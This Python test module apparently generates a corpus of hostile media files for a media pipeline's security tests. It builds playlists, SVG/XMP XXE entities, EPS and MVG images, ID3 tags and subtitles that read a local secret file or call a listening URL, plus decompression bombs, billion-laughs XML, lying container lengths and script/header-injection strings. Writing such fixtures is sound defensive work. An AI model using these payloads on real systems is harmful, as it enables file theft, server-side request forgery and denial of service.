"""Hostile media, by name: each tries to have another file read, a server called, or the box brought down.

`secret` is the absolute path of what they are after, `url` where somebody listens.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image

from tests import media


def zoo(secret: str, url: str) -> dict[str, bytes]:
    return playlists(secret, url) | pictures(secret, url) | containers() | tags(url) | words(secret)


def playlists(secret: str, url: str) -> dict[str, bytes]:
    """Formats that name other files, under names of media (ffmpeg looks at the bytes, not at the name)."""
    hls = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:4,\n{url}/a.ts\n#EXT-X-ENDLIST\n"
    near = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:4,\nfile://{secret}\n#EXT-X-ENDLIST\n"
    key = f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/key"\n#EXTINF:4,\nfile://{secret}\n#EXT-X-ENDLIST\n'
    concat = f"ffconcat version 1.0\nfile '{secret}'\nfile '{url}/b.mp4'\n"
    dash = (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        f'mediaPresentationDuration="PT4S"><Period><BaseURL>{url}/</BaseURL><AdaptationSet '
        f'mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>file://{secret}</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>"
    )
    port = url.rpartition(":")[2]
    sdp = f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
    redirect = f'<asx version="3.0"><entry><ref href="{url}/c.wmv"/></entry></asx>'
    texts = {
        "hls": hls,
        "near": near,
        "key": key,
        "concat": concat,
        "dash": dash,
        "sdp": sdp,
        "asx": redirect,
    }
    found = {}
    for name, text in texts.items():
        for extension in ("mp4", "mkv", "mp3", "avi", "jpg"):
            found[f"{name}.{extension}"] = text.encode()
    found["lavfi.mp4"] = f"movie={secret}".encode()
    found["elsewhere.mov"] = elsewhere(secret)
    return found


def elsewhere(secret: str) -> bytes:
    """A QuickTime film whose samples lie in another file (QTFF, data reference of kind alis and url)."""
    film = bytearray(
        media.ffmpeg("-f", "lavfi", "-i", "testsrc=size=64x64:rate=5:duration=1", format_name="mov")
    )
    at = film.find(b"dref")
    location = f"file://{secret}\0".encode()
    entry = struct.pack(">I4sI", 12 + len(location), b"url ", 0) + location
    whole = struct.pack(">I4sII", 16 + len(entry), b"dref", 0, 1) + entry
    old = struct.unpack(">I", film[at - 4 : at])[0]
    film[at - 4 : at - 4 + old] = whole
    grown = len(whole) - old
    for name in (b"dinf", b"minf", b"mdia", b"trak", b"moov"):
        place = film.find(name) - 4
        film[place : place + 4] = struct.pack(">I", struct.unpack(">I", film[place : place + 4])[0] + grown)
    return bytes(film)


def pictures(secret: str, url: str) -> dict[str, bytes]:
    """Drawings that run or fetch something, and pictures far larger than they look."""
    svg = (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file://{secret}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f'<image xlink:href="{url}/d.png"/><text>&x;</text></svg>'
    )
    eps = (
        "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n"
        f"({secret}) (r) file 999 string readstring pop = showpage\n"
    )
    mvg = (
        f"push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'url({url}/e.png)'\npop graphic-context\n"
    )
    found = {}
    for name, text in {"svg": svg, "eps": eps, "mvg": mvg}.items():
        for extension in ("jpg", "png", "webp"):
            found[f"drawn {name}.{extension}"] = text.encode()
    tiff = io.BytesIO()
    Image.new("RGB", (9, 9), "red").save(tiff, "TIFF")
    pdf = io.BytesIO()
    Image.new("RGB", (9, 9), "red").save(pdf, "PDF")
    film = io.BytesIO()
    frames = [Image.new("P", (500, 500), n % 256) for n in range(300)]
    frames[0].save(film, "GIF", save_all=True, append_images=frames[1:])
    photo = media.photo()
    return found | {
        "tiff.jpg": tiff.getvalue(),
        "pdf.png": pdf.getvalue(),
        "frames.gif": film.getvalue(),
        "wide.png": png(60_000, 60_000),
        "endless.png": png(2**31 - 1, 2**31 - 1),
        "cut.jpg": photo[: len(photo) // 2],
        "loop.jpg": with_segment(
            photo, b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\4\0\1\0\0\0\x08\0\0\0\x08\0\0\0"
        ),
        "entity.jpg": with_segment(
            photo,
            b"http://ns.adobe.com/xap/1.0/\0"
            + f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file://{secret}">'.encode()
            + f'<!ENTITY b SYSTEM "{url}/f">]><x xmlns:x="adobe:ns:meta/">&a;&b;</x>'.encode(),
        ),
        "laughs.jpg": with_segment(photo, b"http://ns.adobe.com/xap/1.0/\0" + billion_laughs()),
    }


def png(width: int, height: int) -> bytes:
    """So many pixels in a few kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    bomb = chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(50_000_000), 9))
    return b"\x89PNG\r\n\x1a\n" + header + bomb + chunk(b"IDAT", zlib.compress(bytes(1_000_000), 9))


def with_segment(jpeg: bytes, data: bytes) -> bytes:
    """The same JPEG with an APP1 segment of `data` behind its beginning."""
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def billion_laughs() -> bytes:
    lines = ['<!ENTITY a0 "ha">'] + [f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)]
    return f"<!DOCTYPE x [{''.join(lines)}]><x>&a9;</x>".encode()


def containers() -> dict[str, bytes]:
    """Lengths that lie, boxes in boxes, archives."""
    film, song, matroska = media.film(), media.song(), media.matroska()
    nested = b""
    for _ in range(5_000):
        nested = struct.pack(">I4s", len(nested) + 8, b"moov") + nested
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("a", bytes(20_000_000))
    at = film.find(b"stts")
    counts = film[: at + 8] + b"\x7f\xff\xff\xff" + film[at + 12 :]
    return {
        "nested.mp4": film[:32] + nested,
        "long box.mp4": film[:32] + struct.pack(">I4sQ", 1, b"moov", 2**63),
        "no end.mp4": film[:32] + struct.pack(">I4s", 0, b"moov") + film[40:],
        "many samples.mp4": counts,
        "cut.mp4": film[: len(film) // 2],
        "cut.mkv": matroska[: len(matroska) // 3],
        "huge.mkv": matroska[:40] + b"\x01\xff\xff\xff\xff\xff\xff\xfe" + matroska[48:],
        "zip.mp4": archive.getvalue(),
        "zip.jpg": archive.getvalue(),
        "tag of two gigabytes.mp3": b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + song[10:],
        "index.avi": b"RIFF\xff\xff\xff\xffAVI LIST\xff\xff\xff\x7fhdrl" + bytes(4000),
        "noise.mp4": bytes(range(256)) * 4000,
        "empty.mp4": b"",
        "one.mkv": b"\x1a",
    }


def tags(url: str) -> dict[str, bytes]:
    """Covers that are links, compressed tags, titles that want to be markup."""
    link = b"\0-->\0\3\0" + f"{url}/cover.jpg".encode()
    packed = zlib.compress(bytes(30_000_000), 9)
    title = b"\3<script>alert(1)</script>\r\nSet-Cookie: x=1"
    song = media.song(cover=False)
    body = song[song.find(b"\xff\xfb") :]
    return {
        "link.mp3": id3((b"APIC", 0, link)) + body,
        "packed.mp3": id3((b"TIT2", 0x0080, struct.pack(">I", 30_000_000) + packed)) + body,
        "markup.mp3": id3((b"TIT2", 0, title)) + body,
        "many.mp3": id3(*[(b"TXXX", 0, b"\3a\0" + b"b" * 40)] * 20_000) + body,
        "link.flac": flac_with_picture(b"-->", f"{url}/cover.jpg".encode()),
    }


def id3(*frames: tuple[bytes, int, bytes]) -> bytes:
    """ID3v2.3 (§3.1, §3.3): frames of (id, flags, content)."""
    inside = b"".join(name + struct.pack(">IH", len(data), flags) + data for name, flags, data in frames)
    size = bytes((len(inside) >> shift) & 127 for shift in (21, 14, 7, 0))
    return b"ID3\3\0\0" + size + inside


def flac_with_picture(mime: bytes, data: bytes) -> bytes:
    """RFC 9639 §8.8: a picture block behind the stream's first one."""
    song = media.flac()
    picture = struct.pack(">I", 3) + struct.pack(">I", len(mime)) + mime + struct.pack(">I", 0)
    picture += struct.pack(">IIIII", 0, 0, 0, 0, len(data)) + data
    first = 4 + 4 + int.from_bytes(song[5:8], "big")
    return song[:first] + b"\6" + len(picture).to_bytes(3, "big") + picture + song[first:]


def words(secret: str) -> dict[str, bytes]:
    """Subtitles beside a film."""
    return {
        "good.mp4": media.film(),
        "good.en.srt": b"1\n00:00:00,000 --> 99:99:99,999\n<script>alert(1)</script>\n" * 5_000,
        "good.de.ass": f"[Script Info]\n[Fonts]\nfontname: {secret}\n[Events]\nDialogue: x\n".encode(),
        "good.fr.vtt": f"WEBVTT\n\nSTYLE\n::cue {{ background: url(file://{secret}) }}\n".encode(),
        "good.no.srt": f"#EXTM3U\n#EXTINF:4,\nfile://{secret}\n".encode(),
    }
